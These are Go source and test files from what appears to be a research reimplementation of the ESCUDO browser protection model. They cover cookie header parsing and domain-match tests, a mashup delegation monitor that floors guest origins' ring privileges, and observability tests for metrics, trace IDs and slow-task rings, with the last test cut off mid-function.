		t.Error("entry without = must be dropped")
	}
}

// Property: Header then ParseCookieHeader round-trips name→value for
// cookies with token-safe names and values.
func TestHeaderRoundTrip(t *testing.T) {
	clean := func(s string) string {
		s = strings.Map(func(r rune) rune {
			if r == ';' || r == '=' || r == ' ' || r < 32 || r > 126 {
				return -1
			}
			return r
		}, s)
		if s == "" {
			return "x"
		}
		return s
	}
	f := func(names, values []string) bool {
		if len(names) > len(values) {
			names = names[:len(values)]
		}
		seen := map[string]string{}
		var cookies []Cookie
		for i, n := range names {
			name := clean(n)
			if _, dup := seen[name]; dup {
				continue
			}
			val := clean(values[i])
			seen[name] = val
			cookies = append(cookies, Cookie{Name: name, Value: val})
		}
		got := ParseCookieHeader(Header(cookies))
		for n, v := range seen {
			if got[n] != v {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

// Property: a cookie never matches a host that is neither its domain
// nor a subdomain of it.
func TestDomainMatchNoConfusion(t *testing.T) {
	f := func(a, b uint8) bool {
		hosts := []string{"forum.example", "evil.example", "forum.example.evil", "sub.forum.example", "xforum.example"}
		host := hosts[int(a)%len(hosts)]
		domain := hosts[int(b)%len(hosts)]
		got := DomainMatch(host, domain)
		want := host == domain || strings.HasSuffix(host, "."+domain)
		return got == want
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}
