// Package mashup implements the extension the paper sketches in §7:
// "ESCUDO's fine-grained protection model could be extended to address
// security requirements for mashup applications by appropriately
// describing the relationship between the rings of applications from
// different origins."
//
// A mashup host declares delegations: for a named guest origin, guest
// principals may act on the host's objects, but never more privileged
// than a declared floor ring. The delegated monitor relaxes only the
// Origin rule — and only for declared pairs — while the Ring and ACL
// rules run against the floored ring, so a guest can be granted, say,
// ring-2 authority inside the host page without any path to the
// host's ring-0/1 resources. Without a delegation the monitor is
// exactly the ESCUDO Reference Monitor.
package mashup

import (
	"fmt"
	"sync"

	"repro/internal/core"
	"repro/internal/origin"
)

// Delegation grants principals of Guest a bounded presence inside
// Host's pages.
type Delegation struct {
	// Host is the embedding application whose objects are exposed.
	Host origin.Origin
	// Guest is the embedded application whose principals gain
	// access.
	Guest origin.Origin
	// Floor is the most privileged ring a guest principal can act as
	// within the host's page: a guest principal in ring g is treated
	// as ring max(g, Floor). Floor 0 would mean full trust; mashup
	// hosts normally pick an outer ring.
	Floor core.Ring
}

// String renders the delegation for traces.
func (d Delegation) String() string {
	return fmt.Sprintf("%s ← %s (floor %d)", d.Host, d.Guest, d.Floor)
}

// Policy is a set of delegations. The zero value delegates nothing.
// It is safe for concurrent use.
type Policy struct {
	mu          sync.Mutex
	delegations map[[2]origin.Origin]Delegation
}

// NewPolicy returns an empty policy.
func NewPolicy() *Policy { return &Policy{} }

// Delegate installs (or tightens) a delegation. Re-declaring an
// existing pair keeps the least privileged (largest) floor: a
// delegation can be narrowed but never silently widened.
func (p *Policy) Delegate(d Delegation) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.delegations == nil {
		p.delegations = map[[2]origin.Origin]Delegation{}
	}
	key := [2]origin.Origin{d.Host, d.Guest}
	if old, ok := p.delegations[key]; ok && old.Floor > d.Floor {
		return
	}
	p.delegations[key] = d
}

// Lookup returns the delegation for a host/guest pair.
func (p *Policy) Lookup(host, guest origin.Origin) (Delegation, bool) {
	p.mu.Lock()
	defer p.mu.Unlock()
	d, ok := p.delegations[[2]origin.Origin{host, guest}]
	return d, ok
}

// DelegationFloor implements core.DelegationSource, so a Policy plugs
// straight into the monitor pipeline via core.WithDelegations.
func (p *Policy) DelegationFloor(host, guest origin.Origin) (core.Ring, bool) {
	d, ok := p.Lookup(host, guest)
	return d.Floor, ok
}

var _ core.DelegationSource = (*Policy)(nil)

// All returns a copy of every delegation.
func (p *Policy) All() []Delegation {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make([]Delegation, 0, len(p.delegations))
	for _, d := range p.delegations {
		out = append(out, d)
	}
	return out
}

// Monitor is the delegation-aware reference monitor. Same-origin
// accesses follow the plain ESCUDO rules; cross-origin accesses are
// admitted only under a declared delegation, with the guest's ring
// floored. It is now a pre-composed pipeline —
// core.Compose(&core.ERM{}, core.WithDelegations(policy),
// core.WithTrace(trace)) — kept as a named type so it can be handed to
// browser.Options.MonitorFactory (and existing callers) directly.
// Like every pipeline layer it implements core.BatchAuthorizer, so
// region reads inside a real browser session keep their per-class
// dedup and per-node audit semantics.
type Monitor struct {
	// Policy holds the delegations; nil behaves like an empty
	// policy (plain ERM). Read on every call, so it may be assigned
	// between calls.
	Policy *Policy
	// Trace, when non-nil, receives every decision. Read on every
	// call, like Policy.
	Trace func(core.Decision)
}

var (
	_ core.Monitor         = (*Monitor)(nil)
	_ core.BatchAuthorizer = (*Monitor)(nil)
)

// monitor builds the underlying pipeline. It is rebuilt per call —
// the layers are two small structs — so the fields keep their
// historical read-on-every-call semantics.
func (m *Monitor) monitor() core.Monitor {
	var src core.DelegationSource
	if m.Policy != nil {
		src = m.Policy
	}
	return core.Compose(&core.ERM{}, core.WithDelegations(src), core.WithTrace(m.Trace))
}

// Authorize implements core.Monitor.
func (m *Monitor) Authorize(p core.Context, op core.Op, o core.Context) core.Decision {
	return m.monitor().Authorize(p, op, o)
}

// AuthorizeBatch implements core.BatchAuthorizer: one decision
// computation per (origin, ring, ACL) equivalence class after the
// delegation rewrite, one decision per node.
func (m *Monitor) AuthorizeBatch(p core.Context, op core.Op, objects []core.Context) []core.Decision {
	return core.AuthorizeBatch(m.monitor(), p, op, objects)
}
