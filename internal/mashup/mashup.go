// Package mashup implements the extension the paper sketches in §7:
// "ESCUDO's fine-grained protection model could be extended to address
// security requirements for mashup applications by appropriately
// describing the relationship between the rings of applications from
// different origins."
//
// A mashup host declares delegations: for a named guest origin, guest
// principals may act on the host's objects, but never more privileged
// than a declared floor ring. The delegated monitor relaxes only the
// Origin rule — and only for declared pairs — while the Ring and ACL
// rules run against the floored ring, so a guest can be granted, say,
// ring-2 authority inside the host page without any path to the
// host's ring-0/1 resources. Without a delegation the monitor is
// exactly the ESCUDO Reference Monitor.
package mashup

import (
	"fmt"
	"sync"

	"repro/internal/core"
	"repro/internal/origin"
)

// Delegation grants principals of Guest a bounded presence inside
// Host's pages.
type Delegation struct {
	// Host is the embedding application whose objects are exposed.
	Host origin.Origin
	// Guest is the embedded application whose principals gain
	// access.
	Guest origin.Origin
	// Floor is the most privileged ring a guest principal can act as
	// within the host's page: a guest principal in ring g is treated
	// as ring max(g, Floor). Floor 0 would mean full trust; mashup
	// hosts normally pick an outer ring.
	Floor core.Ring
}

// String renders the delegation for traces.
func (d Delegation) String() string {
	return fmt.Sprintf("%s ← %s (floor %d)", d.Host, d.Guest, d.Floor)
}

// Policy is a set of delegations. The zero value delegates nothing.
// It is safe for concurrent use.
type Policy struct {
	mu          sync.Mutex
	delegations map[[2]origin.Origin]Delegation
}

// NewPolicy returns an empty policy.
func NewPolicy() *Policy { return &Policy{} }

// Delegate installs (or tightens) a delegation. Re-declaring an
// existing pair keeps the least privileged (largest) floor: a
// delegation can be narrowed but never silently widened.
func (p *Policy) Delegate(d Delegation) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if p.delegations == nil {
		p.delegations = map[[2]origin.Origin]Delegation{}
	}
	key := [2]origin.Origin{d.Host, d.Guest}
	if old, ok := p.delegations[key]; ok && old.Floor > d.Floor {
		return
	}
	p.delegations[key] = d
}

// Lookup returns the delegation for a host/guest pair.
func (p *Policy) Lookup(host, guest origin.Origin) (Delegation, bool) {
	p.mu.Lock()
	defer p.mu.Unlock()
	d, ok := p.delegations[[2]origin.Origin{host, guest}]
	return d, ok
}

// All returns a copy of every delegation.
func (p *Policy) All() []Delegation {
	p.mu.Lock()
	defer p.mu.Unlock()
	out := make([]Delegation, 0, len(p.delegations))
	for _, d := range p.delegations {
		out = append(out, d)
	}
	return out
}

// Monitor is the delegation-aware reference monitor. Same-origin
// accesses follow the plain ESCUDO rules; cross-origin accesses are
// admitted only under a declared delegation, with the guest's ring
// floored.
type Monitor struct {
	// Policy holds the delegations; nil behaves like an empty
	// policy (plain ERM).
	Policy *Policy
	// Trace, when non-nil, receives every decision.
	Trace func(core.Decision)
}

var _ core.Monitor = (*Monitor)(nil)

// Authorize implements core.Monitor.
func (m *Monitor) Authorize(p core.Context, op core.Op, o core.Context) core.Decision {
	erm := &core.ERM{}
	if p.Origin.SameOrigin(o.Origin) || m.Policy == nil {
		d := erm.Authorize(p, op, o)
		if m.Trace != nil {
			m.Trace(d)
		}
		return d
	}
	del, ok := m.Policy.Lookup(o.Origin, p.Origin)
	if !ok {
		d := core.Decision{Principal: p, Op: op, Object: o, Rule: core.RuleOrigin}
		if m.Trace != nil {
			m.Trace(d)
		}
		return d
	}
	// Evaluate ring and ACL rules with the floored ring by
	// re-homing the guest principal into the host origin at its
	// delegated privilege.
	floored := p
	floored.Origin = o.Origin
	floored.Ring = p.Ring.Outermost(del.Floor)
	floored.Label = p.Label + "→" + del.String()
	d := erm.Authorize(floored, op, o)
	// Report the original principal in the decision for honest
	// audit trails.
	d.Principal = p
	if m.Trace != nil {
		m.Trace(d)
	}
	return d
}
