package mashup

import (
	"testing"
	"testing/quick"

	"repro/internal/core"
	"repro/internal/origin"
)

var (
	portal = origin.MustParse("http://portal.example")
	widget = origin.MustParse("http://widget.example")
	other  = origin.MustParse("http://other.example")
)

func TestNoDelegationIsPlainERM(t *testing.T) {
	m := &Monitor{Policy: NewPolicy()}
	erm := &core.ERM{}
	cases := []struct {
		p core.Context
		o core.Context
	}{
		{core.Principal(portal, 1, "p"), core.Object(portal, 2, core.UniformACL(2), "o")},
		{core.Principal(portal, 3, "p"), core.Object(portal, 1, core.UniformACL(1), "o")},
		{core.Principal(widget, 0, "p"), core.Object(portal, 3, core.PermissiveACL(3), "o")},
	}
	for _, c := range cases {
		for _, op := range []core.Op{core.OpRead, core.OpWrite, core.OpUse} {
			got := m.Authorize(c.p, op, c.o)
			want := erm.Authorize(c.p, op, c.o)
			if got.Allowed != want.Allowed || got.Rule != want.Rule {
				t.Errorf("no delegation: %v vs ERM %v", got, want)
			}
		}
	}
	// Nil policy too.
	m = &Monitor{}
	d := m.Authorize(core.Principal(widget, 0, "p"), core.OpRead, core.Object(portal, 3, core.PermissiveACL(3), "o"))
	if d.Allowed {
		t.Error("nil policy must not delegate")
	}
}

func TestDelegationGrantsFlooredAccess(t *testing.T) {
	pol := NewPolicy()
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 2})
	m := &Monitor{Policy: pol}

	slot := core.Object(portal, 2, core.UniformACL(2), "widget slot")
	appContent := core.Object(portal, 1, core.UniformACL(1), "app content")
	userContent := core.Object(portal, 3, core.PermissiveACL(3), "user content")

	// A ring-0 widget principal acts as ring 2 in the portal: it may
	// write its slot and outer-ring content, never ring-1 content.
	guest := core.Principal(widget, 0, "widget script")
	if d := m.Authorize(guest, core.OpWrite, slot); !d.Allowed {
		t.Errorf("delegated write to slot denied: %v", d)
	}
	if d := m.Authorize(guest, core.OpWrite, userContent); !d.Allowed {
		t.Errorf("delegated write to outer ring denied: %v", d)
	}
	if d := m.Authorize(guest, core.OpWrite, appContent); d.Allowed {
		t.Errorf("delegation must not reach ring 1: %v", d)
	}
	// A ring-3 widget principal stays ring 3 (floor only lowers
	// privilege, never raises it).
	lowGuest := core.Principal(widget, 3, "low widget script")
	if d := m.Authorize(lowGuest, core.OpWrite, slot); d.Allowed {
		t.Errorf("ring-3 guest must not write the ring-2 slot: %v", d)
	}
}

func TestDelegationIsDirectional(t *testing.T) {
	pol := NewPolicy()
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 2})
	m := &Monitor{Policy: pol}
	// The reverse direction (portal principal on widget objects) has
	// no delegation.
	d := m.Authorize(core.Principal(portal, 0, "p"), core.OpRead,
		core.Object(widget, 3, core.PermissiveACL(3), "o"))
	if d.Allowed || d.Rule != core.RuleOrigin {
		t.Errorf("reverse direction = %v, want origin denial", d)
	}
	// An undeclared third origin gets nothing.
	d = m.Authorize(core.Principal(other, 0, "p"), core.OpRead,
		core.Object(portal, 3, core.PermissiveACL(3), "o"))
	if d.Allowed {
		t.Errorf("undeclared origin = %v", d)
	}
}

func TestRedeclarationNeverWidens(t *testing.T) {
	pol := NewPolicy()
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 3})
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 1}) // attempt to widen
	d, ok := pol.Lookup(portal, widget)
	if !ok || d.Floor != 3 {
		t.Errorf("floor = %v, want 3 (narrowing only)", d.Floor)
	}
	// Narrowing is accepted.
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 3})
	pol2 := NewPolicy()
	pol2.Delegate(Delegation{Host: portal, Guest: widget, Floor: 1})
	pol2.Delegate(Delegation{Host: portal, Guest: widget, Floor: 2})
	if d, _ := pol2.Lookup(portal, widget); d.Floor != 2 {
		t.Errorf("floor = %v, want tightened 2", d.Floor)
	}
}

func TestPolicyAll(t *testing.T) {
	pol := NewPolicy()
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 2})
	pol.Delegate(Delegation{Host: portal, Guest: other, Floor: 3})
	if got := len(pol.All()); got != 2 {
		t.Errorf("All = %d", got)
	}
}

// Property: a delegated monitor never allows an access the plain ERM
// would allow for a same-origin principal at the floor ring — i.e.
// delegation ≈ "guest at ring max(g, floor)", never more.
func TestDelegationUpperBound(t *testing.T) {
	erm := &core.ERM{}
	f := func(guestRing, floor, oRing, r, w, x uint8, opSel uint8) bool {
		pol := NewPolicy()
		fl := core.Ring(floor % 4)
		pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: fl})
		m := &Monitor{Policy: pol}
		op := []core.Op{core.OpRead, core.OpWrite, core.OpUse}[opSel%3]
		g := core.Ring(guestRing % 4)
		obj := core.Object(portal, core.Ring(oRing%4),
			core.ACL{Read: core.Ring(r % 4), Write: core.Ring(w % 4), Use: core.Ring(x % 4)}, "o")
		got := m.Authorize(core.Principal(widget, g, "g"), op, obj)
		equiv := erm.Authorize(core.Principal(portal, g.Outermost(fl), "eq"), op, obj)
		return got.Allowed == equiv.Allowed
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Error(err)
	}
}

func TestTraceHook(t *testing.T) {
	log := &core.AuditLog{}
	pol := NewPolicy()
	pol.Delegate(Delegation{Host: portal, Guest: widget, Floor: 2})
	m := &Monitor{Policy: pol, Trace: log.Record}
	m.Authorize(core.Principal(widget, 0, "w"), core.OpRead, core.Object(portal, 3, core.PermissiveACL(3), "o"))
	m.Authorize(core.Principal(portal, 0, "p"), core.OpRead, core.Object(portal, 0, core.UniformACL(0), "o"))
	m.Authorize(core.Principal(other, 0, "x"), core.OpRead, core.Object(portal, 3, core.PermissiveACL(3), "o"))
	if log.Len() != 3 {
		t.Errorf("trace len = %d, want 3", log.Len())
	}
	// The decision reports the original guest principal.
	if all := log.All(); all[0].Principal.Origin != widget {
		t.Errorf("decision principal = %v, want original guest", all[0].Principal)
	}
}

// TestMonitorFieldsReadPerCall pins the historical semantics: Policy
// and Trace assigned after a first Authorize are honored by later
// calls (the pipeline is rebuilt per call, not latched).
func TestMonitorFieldsReadPerCall(t *testing.T) {
	host := origin.MustParse("http://portal.example")
	guest := origin.MustParse("http://widget.example")
	slot := core.Object(host, 2, core.UniformACL(2), "slot")
	gp := core.Principal(guest, 0, "widget")

	m := &Monitor{}
	if d := m.Authorize(gp, core.OpWrite, slot); d.Allowed {
		t.Fatalf("empty monitor allowed a cross-origin write: %v", d)
	}
	pol := NewPolicy()
	pol.Delegate(Delegation{Host: host, Guest: guest, Floor: 2})
	var traced int
	m.Policy = pol
	m.Trace = func(core.Decision) { traced++ }
	if d := m.Authorize(gp, core.OpWrite, slot); !d.Allowed {
		t.Fatalf("late-assigned policy ignored: %v", d)
	}
	if traced != 1 {
		t.Fatalf("late-assigned trace ignored: %d calls", traced)
	}
}
