package obs

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"repro/internal/raceflag"
)

// TestStageClockAccumulates pins the clock's basic arithmetic: adds
// accrue per stage, Total sums, Reset zeroes in place.
func TestStageClockAccumulates(t *testing.T) {
	c := NewStageClock()
	c.Add(StageBatchAuth, 2*time.Millisecond)
	c.Add(StageBatchAuth, 3*time.Millisecond)
	c.Add(StageRender, 1*time.Millisecond)
	if got := c.Nanos(StageBatchAuth); got != int64(5*time.Millisecond) {
		t.Fatalf("batch_auth nanos = %d, want %d", got, 5*time.Millisecond)
	}
	if got := c.Total(); got != 6*time.Millisecond {
		t.Fatalf("total = %v, want 6ms", got)
	}
	snap := c.Snapshot()
	if snap[StageRender] != int64(time.Millisecond) {
		t.Fatalf("snapshot render = %d, want %d", snap[StageRender], time.Millisecond)
	}
	c.Reset()
	if c.Total() != 0 {
		t.Fatalf("total after reset = %v, want 0", c.Total())
	}
}

// TestStageClockNilSafe pins the branch-free call-site contract: every
// method on a nil clock is a no-op, so disabled timing costs nothing
// at the call sites.
func TestStageClockNilSafe(t *testing.T) {
	var c *StageClock
	c.Add(StageHandler, time.Second)
	if c.Nanos(StageHandler) != 0 || c.Total() != 0 {
		t.Fatal("nil clock accumulated time")
	}
	c.Reset()
	_ = c.Snapshot()
}

// TestStageClockAddAllocs gates the record path: an Add on a warm
// clock must not allocate — it sits inside Authorize/AuthorizeBatch
// and the gateway's per-request path.
func TestStageClockAddAllocs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	c := NewStageClock()
	allocs := testing.AllocsPerRun(1000, func() {
		c.Add(StageBatchAuth, 123*time.Microsecond)
		c.Add(StageScriptVM, 45*time.Microsecond)
	})
	if allocs != 0 {
		t.Fatalf("StageClock.Add allocates %.1f times per run, want 0", allocs)
	}
}

// TestStageSetRecordAllocs gates the fold path: folding a warm clock
// into a warm StageSet is zero-alloc (the underlying histograms grow
// their bucket slices once).
func TestStageSetRecordAllocs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	reg := NewRegistry()
	set := NewStageSet(reg)
	c := NewStageClock()
	for i := Stage(0); i < NumStages; i++ {
		c.Add(i, time.Duration(i+1)*time.Millisecond)
	}
	// Warm every histogram across its range once.
	set.Record(c)
	for i := Stage(0); i < NumStages; i++ {
		set.Observe(i, 5*time.Hour)
	}
	allocs := testing.AllocsPerRun(1000, func() {
		set.Record(c)
	})
	if allocs != 0 {
		t.Fatalf("StageSet.Record allocates %.1f times per run, want 0", allocs)
	}
}

// TestStageSetExposition pins the /varz shape: per-stage summaries as
// escudo_stage_seconds{stage=...,quantile=...} plus a _count line.
func TestStageSetExposition(t *testing.T) {
	reg := NewRegistry()
	set := NewStageSet(reg)
	set.Observe(StageRender, 2*time.Millisecond)
	set.Observe(StageBatchAuth, 1*time.Millisecond)
	text := reg.Expose()
	for _, want := range []string{
		`escudo_stage_seconds{stage="render",quantile="0.99"}`,
		`escudo_stage_seconds_count{stage="batch_auth"} 1`,
	} {
		if !strings.Contains(text, want) {
			t.Fatalf("exposition missing %q:\n%s", want, text)
		}
	}
}

// TestSlowRingRetainsSlowest pins the exemplar policy: per phase, the
// ring keeps exactly the N slowest tasks, snapshot is slowest-first,
// and the per-stage breakdown survives the trip.
func TestSlowRingRetainsSlowest(t *testing.T) {
	r := NewSlowRing(3)
	var stages [NumStages]int64
	stages[StageScriptVM] = 7
	for i := 1; i <= 10; i++ {
		r.Record("figure4", fmt.Sprintf("trace-%d", i), time.Duration(i)*time.Millisecond, stages)
	}
	got := r.Snapshot("figure4")
	if len(got) != 3 {
		t.Fatalf("retained %d exemplars, want 3", len(got))
	}
	for i, wantMs := range []int64{10, 9, 8} {
		if got[i].TotalNs != wantMs*int64(time.Millisecond) {
			t.Fatalf("exemplar %d total = %dns, want %dms", i, got[i].TotalNs, wantMs)
		}
	}
	if got[0].TraceID != "trace-10" || got[0].Phase != "figure4" {
		t.Fatalf("slowest exemplar = %+v, want trace-10/figure4", got[0])
	}
	if got[0].Stages["script_vm"] != 7 {
		t.Fatalf("stage breakdown lost: %v", got[0].Stages)
	}
	if floor := r.Floor("figure4"); floor != 8*time.Millisecond {
		t.Fatalf("floor = %v, want 8ms", floor)
	}
}

// TestSlowRingPhasesIsolated pins that phases don't share a budget:
// a noisy phase can't evict another phase's exemplars, and the merged
// snapshot interleaves slowest-first.
func TestSlowRingPhasesIsolated(t *testing.T) {
	r := NewSlowRing(2)
	var stages [NumStages]int64
	for i := 1; i <= 5; i++ {
		r.Record("loud", fmt.Sprintf("l-%d", i), time.Duration(i)*time.Second, stages)
	}
	r.Record("quiet", "q-1", time.Millisecond, stages)
	if got := r.Snapshot("quiet"); len(got) != 1 || got[0].TraceID != "q-1" {
		t.Fatalf("quiet phase = %+v, want the one q-1 exemplar", got)
	}
	all := r.Snapshot("")
	if len(all) != 3 {
		t.Fatalf("merged snapshot has %d exemplars, want 3", len(all))
	}
	if all[0].TraceID != "l-5" || all[len(all)-1].TraceID != "q-1" {
		t.Fatalf("merged snapshot not slowest-first: %+v", all)
	}
	if len(r.Phases()) != 2 {
		t.Fatalf("phases = %v, want 2", r.Phases())
	}
}

// TestSlowRingRejectsUntraceable pins the joinability contract: an
// exemplar without a trace ID cannot be resolved via /tracez, and an
// exemplar without a phase label cannot be selected by any ?phase=
// filter (un-phased warmup pools are deliberately unmeasured), so
// the ring refuses both.
func TestSlowRingRejectsUntraceable(t *testing.T) {
	r := NewSlowRing(2)
	var stages [NumStages]int64
	r.Record("p", "", time.Hour, stages)
	if got := r.Snapshot("p"); len(got) != 0 {
		t.Fatalf("ring retained a traceless exemplar: %+v", got)
	}
	r.Record("", "warmup-trace", time.Hour, stages)
	if got := r.Snapshot(""); len(got) != 0 {
		t.Fatalf("ring retained a phaseless exemplar: %+v", got)
	}
}

// TestSlowRingRejectAllocs gates the warm-path reject: once the ring
// is full, offering a faster task allocates nothing.
func TestSlowRingRejectAllocs(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	r := NewSlowRing(4)
	var stages [NumStages]int64
	for i := 0; i < 4; i++ {
		r.Record("p", fmt.Sprintf("t-%d", i), time.Second, stages)
	}
	allocs := testing.AllocsPerRun(1000, func() {
		r.Record("p", "fast", time.Microsecond, stages)
	})
	if allocs != 0 {
		t.Fatalf("SlowRing reject path allocates %.1f times per run, want 0", allocs)
	}
}
