package obs

import (
	"strings"
	"sync"
	"testing"
	"time"

	"repro/internal/raceflag"
)

func TestTraceIDsUnique(t *testing.T) {
	seen := map[string]bool{}
	for i := 0; i < 1000; i++ {
		id := NewTrace().ID()
		if id == "" {
			t.Fatal("empty trace ID")
		}
		if seen[id] {
			t.Fatalf("duplicate trace ID %s", id)
		}
		seen[id] = true
	}
}

func TestTraceSpans(t *testing.T) {
	tr := NewTrace()
	if tr.Spans() != 0 {
		t.Fatalf("fresh trace has %d spans", tr.Spans())
	}
	if got := tr.NextSpan(); got != 1 {
		t.Fatalf("first span = %d, want 1", got)
	}
	if got := tr.NextSpan(); got != 2 {
		t.Fatalf("second span = %d, want 2", got)
	}
	if tr.Spans() != 2 {
		t.Fatalf("Spans() = %d, want 2", tr.Spans())
	}
}

func TestTraceNilSafe(t *testing.T) {
	var tr *Trace
	if tr.ID() != "" || tr.NextSpan() != 0 || tr.Spans() != 0 {
		t.Fatal("nil trace must be inert")
	}
	if Adopt("") != nil {
		t.Fatal("Adopt(\"\") must be nil")
	}
	ad := Adopt("abc-123")
	if ad.ID() != "abc-123" {
		t.Fatalf("adopted ID = %q", ad.ID())
	}
	if ad.NextSpan() != 1 {
		t.Fatal("adopted trace must continue spans locally")
	}
}

func TestRegistryIdempotentAndTyped(t *testing.T) {
	r := NewRegistry()
	c1 := r.Counter("reqs", L("origin", "a.test"))
	c2 := r.Counter("reqs", L("origin", "a.test"))
	if c1 != c2 {
		t.Fatal("re-registering the same counter must return the same handle")
	}
	if c3 := r.Counter("reqs", L("origin", "b.test")); c3 == c1 {
		t.Fatal("different label sets must get distinct handles")
	}
	defer func() {
		if recover() == nil {
			t.Fatal("kind mismatch must panic")
		}
	}()
	r.Gauge("reqs", L("origin", "a.test"))
}

func TestRegistryExpose(t *testing.T) {
	r := NewRegistry()
	r.Counter("escudo_requests_total", L("origin", "a.test")).Add(7)
	r.Counter("escudo_requests_total", L("origin", "b.test")).Add(3)
	r.Gauge("escudo_goroutines").Set(42)
	h := r.Histogram("escudo_task_seconds", L("phase", "figure4"))
	for i := 0; i < 100; i++ {
		h.Observe(time.Millisecond)
	}
	out := r.Expose()
	for _, want := range []string{
		"# TYPE escudo_requests_total counter",
		`escudo_requests_total{origin="a.test"} 7`,
		`escudo_requests_total{origin="b.test"} 3`,
		"# TYPE escudo_goroutines gauge",
		"escudo_goroutines 42",
		"# TYPE escudo_task_seconds summary",
		`escudo_task_seconds{phase="figure4",quantile="0.5"}`,
		`escudo_task_seconds{phase="figure4",quantile="0.99"}`,
		`escudo_task_seconds_count{phase="figure4"} 100`,
	} {
		if !strings.Contains(out, want) {
			t.Fatalf("exposition missing %q:\n%s", want, out)
		}
	}
	if strings.Count(out, "# TYPE escudo_requests_total counter") != 1 {
		t.Fatalf("TYPE header repeated:\n%s", out)
	}
	snap := r.Snapshot()
	if snap[`escudo_requests_total{origin="a.test"}`] != 7 {
		t.Fatalf("snapshot = %v", snap)
	}
	if snap["escudo_goroutines"] != 42 {
		t.Fatalf("snapshot = %v", snap)
	}
}

func TestRegistryConcurrentLookup(t *testing.T) {
	r := NewRegistry()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				r.Counter("c", L("k", "v")).Inc()
				r.Gauge("g").Add(1)
				r.Histogram("h").Observe(time.Microsecond)
			}
		}()
	}
	wg.Wait()
	if got := r.Counter("c", L("k", "v")).Value(); got != 800 {
		t.Fatalf("counter = %d, want 800", got)
	}
}

// The registry's promise is zero-alloc recording through a warm
// handle — the same bar the PR 7 request path meets.
func TestRecordingAllocFree(t *testing.T) {
	if raceflag.Enabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	r := NewRegistry()
	c := r.Counter("c")
	g := r.Gauge("g")
	h := r.Histogram("h")
	h.Observe(time.Hour) // grow buckets to capacity once
	if allocs := testing.AllocsPerRun(1000, func() {
		c.Inc()
		g.Set(5)
		h.Observe(time.Millisecond)
	}); allocs != 0 {
		t.Fatalf("hot-path recording allocates %.1f/op, want 0", allocs)
	}
	// Handle lookup for an already-registered metric must also stay
	// clean so call sites may resolve lazily without a hidden cost.
	if allocs := testing.AllocsPerRun(1000, func() {
		r.Counter("c").Inc()
	}); allocs != 0 {
		t.Fatalf("warm unlabeled lookup allocates %.1f/op, want 0", allocs)
	}
}

func TestDecisionRingOverwriteAndFilter(t *testing.T) {
	r := NewDecisionRing(4)
	for i := 0; i < 6; i++ {
		e := DecisionEvent{TraceID: "t1", Origin: "a.test", Ring: i % 3, Allowed: i%2 == 0}
		if i >= 3 {
			e.TraceID = "t2"
		}
		r.Record(e)
	}
	if r.Len() != 4 || r.Total() != 6 {
		t.Fatalf("Len=%d Total=%d, want 4/6", r.Len(), r.Total())
	}
	all := r.Snapshot(MatchAny)
	if len(all) != 4 {
		t.Fatalf("snapshot len = %d", len(all))
	}
	// Oldest retained event is #3 (seq 3); newest is #6 (seq 6).
	if all[0].Seq != 3 || all[3].Seq != 6 {
		t.Fatalf("snapshot order: first seq %d, last seq %d", all[0].Seq, all[3].Seq)
	}
	if got := len(r.Snapshot(RingFilter{TraceID: "t2", Ring: -1})); got != 3 {
		t.Fatalf("trace filter matched %d, want 3", got)
	}
	if got := len(r.Snapshot(RingFilter{Verdict: "allow", Ring: -1})); got != 2 {
		t.Fatalf("allow filter matched %d, want 2", got)
	}
	if got := len(r.Snapshot(RingFilter{Verdict: "deny", Ring: -1})); got != 2 {
		t.Fatalf("deny filter matched %d, want 2", got)
	}
	// Retained events carry rings 2,0,1,2 (i = 2..5 of i%3).
	if got := len(r.Snapshot(RingFilter{Ring: 2})); got != 2 {
		t.Fatalf("ring filter matched %d, want 2", got)
	}
}

func TestSampler(t *testing.T) {
	reg := NewRegistry()
	s := NewSampler(reg, 10*time.Millisecond)
	s.Start()
	s.Mark()
	time.Sleep(35 * time.Millisecond)
	stats := s.Stop()
	if stats.Samples < 2 {
		t.Fatalf("samples = %d, want >= 2", stats.Samples)
	}
	if stats.Goroutines.Last <= 0 || stats.HeapAllocBytes.Last <= 0 {
		t.Fatalf("empty series: %+v", stats)
	}
	if stats.PostWarmupGoroutines <= 0 {
		t.Fatal("Mark() did not record a baseline")
	}
	if reg.Gauge("escudo_goroutines").Value() <= 0 {
		t.Fatal("sampler did not publish gauges")
	}
	// Stop is idempotent-ish: calling Stats after Stop still works.
	if s.Stats().Samples != stats.Samples {
		t.Fatal("stats changed after stop")
	}
}

func TestSamplerMerge(t *testing.T) {
	a := SamplerStats{Samples: 3, Goroutines: SeriesInt{First: 10, Last: 11, Min: 9, Max: 12},
		HeapAllocBytes: SeriesInt{First: 100, Last: 90, Min: 80, Max: 120},
		HeapMonotonic:  false, HeapSysBytes: 1000, GCPauseTotalMs: 1.5, NumGC: 2, PostWarmupGoroutines: 10}
	b := SamplerStats{Samples: 4, Goroutines: SeriesInt{First: 5, Last: 6, Min: 5, Max: 7},
		HeapAllocBytes: SeriesInt{First: 50, Last: 60, Min: 50, Max: 60},
		HeapMonotonic:  true, HeapSysBytes: 500, GCPauseTotalMs: 0.5, NumGC: 1, PostWarmupGoroutines: 5}
	a.Merge(b)
